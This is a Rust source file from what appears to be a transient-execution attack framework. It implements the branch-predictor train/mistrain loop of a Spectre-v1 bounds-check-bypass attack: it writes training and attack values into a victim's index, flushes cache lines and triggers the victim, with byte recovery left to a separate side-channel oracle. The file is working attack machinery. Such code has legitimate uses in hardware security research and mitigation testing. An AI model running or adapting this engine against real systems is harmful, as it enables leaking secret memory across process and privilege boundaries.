//! Spectre-v1 (PHT/branch-predictor) transient-execution engine
//! (Component G).
//!
//! This owns the train/mistrain hardware loop only. Turning a victim
//! trigger's side effects into recovered bytes is the job of a
//! [`crate::oracle::sidechannel::SidechannelOracle`] wrapped around it —
//! the engine itself just runs the branch-predictor training schedule and
//! calls the trigger at the right moments.

use crate::arch::{clflush, cpuid, delay_cycles, mfence};

/// The four variants this family of engines distinguishes. Only the first
/// three are PHT-based ("V1-class") and eligible to run through
/// [`spectre_v1`]; `V2Bti` targets the branch target buffer, a different
/// substrate this engine doesn't drive.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
pub enum SpectreVariant {
    /// Bounds check bypass: classic `if (idx < len) array[idx]`.
    V1Bcb,
    /// Variant 1.1: bounds check bypass feeding a speculative store.
    V1_1Store,
    /// Variant 1.2: bounds check bypass feeding a speculative read of
    /// otherwise-inaccessible memory.
    V1_2Read,
    /// Branch target injection. Not handled by this engine.
    V2Bti,
}

impl SpectreVariant {
    pub fn is_pht_based(self) -> bool {
        !matches!(self, SpectreVariant::V2Bti)
    }
}

/// Byte width of the index/length location a [`SpectreConfig`] writes
/// into, when writing it directly rather than through `setup`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IndexWidth {
    U8,
    U16,
    U32,
    U64,
}

/// Tunables for a [`spectre_v1`] run. Mirrors the "Spectre Configuration"
/// data model: a PHT-based variant tag, a writable index/length location
/// (or a setup callback when writing it needs more than a store — e.g. a
/// syscall), training and attack values, and the four synchronization
/// counters governing the train/mistrain schedule.
pub struct SpectreConfig {
    pub variant: SpectreVariant,
    /// Address of the index/length value the victim's bounds check reads.
    /// `None` if `setup` handles writing it by some other means.
    pub index_addr: Option<*mut u8>,
    pub index_width: IndexWidth,
    pub training_val: u64,
    pub attack_val: u64,
    /// Overrides the direct write to `index_addr` when supplying the
    /// value needs a syscall or other indirection rather than a store.
    pub setup: Option<Box<dyn FnMut(u64)>>,
    /// Training-to-attack ratio: training iterations per attack iteration.
    pub ratio: u32,
    /// Total outer trials to run.
    pub trials: u32,
    /// Cycles to busy-wait between flushing the guard and triggering the
    /// victim.
    pub sync_delay: u32,
    /// Cycles to busy-wait after the victim trigger returns.
    pub post_delay: u32,
}

/// # Safety
/// `addr` must be valid for a write of `width`'s byte size.
unsafe fn write_index(addr: *mut u8, width: IndexWidth, value: u64) {
    match width {
        IndexWidth::U8 => addr.cast::<u8>().write_volatile(value as u8),
        IndexWidth::U16 => addr.cast::<u16>().write_volatile(value as u16),
        IndexWidth::U32 => addr.cast::<u32>().write_volatile(value as u32),
        IndexWidth::U64 => addr.cast::<u64>().write_volatile(value),
    }
}

/// Runs the Spectre-v1 train/mistrain schedule: for `trials` outer
/// repetitions, counts `ratio` training iterations down to the single
/// attack iteration, writing the training (or attack) value into the
/// guarded index/length location, flushing its cache line, and invoking
/// `victim_trigger` after `sync_delay` cycles — then waiting `post_delay`
/// cycles before the next iteration.
///
/// No-op if `config.variant` isn't PHT-based.
///
/// # Safety
/// If `config.index_addr` is `Some`, it must be valid for a write of
/// `config.index_width`'s size and readable by `clflush` for the lifetime
/// of the call. `victim_trigger` must not itself cause undefined behavior.
pub unsafe fn spectre_v1<F: FnMut()>(config: &mut SpectreConfig, mut victim_trigger: F) {
    if !config.variant.is_pht_based() {
        return;
    }

    for _trial in 0..config.trials {
        let mut i = config.ratio as i64;
        while i >= 0 {
            let x = if i > 0 {
                config.training_val
            } else {
                config.attack_val
            };

            match config.setup.as_mut() {
                Some(setup) => setup(x),
                None => {
                    if let Some(addr) = config.index_addr {
                        write_index(addr, config.index_width, x);
                    }
                }
            }
            mfence();

            if let Some(addr) = config.index_addr {
                clflush(addr);
                cpuid();
            }

            delay_cycles(config.sync_delay);
            victim_trigger();
            delay_cycles(config.post_delay);

            i -= 1;
        }
    }
}
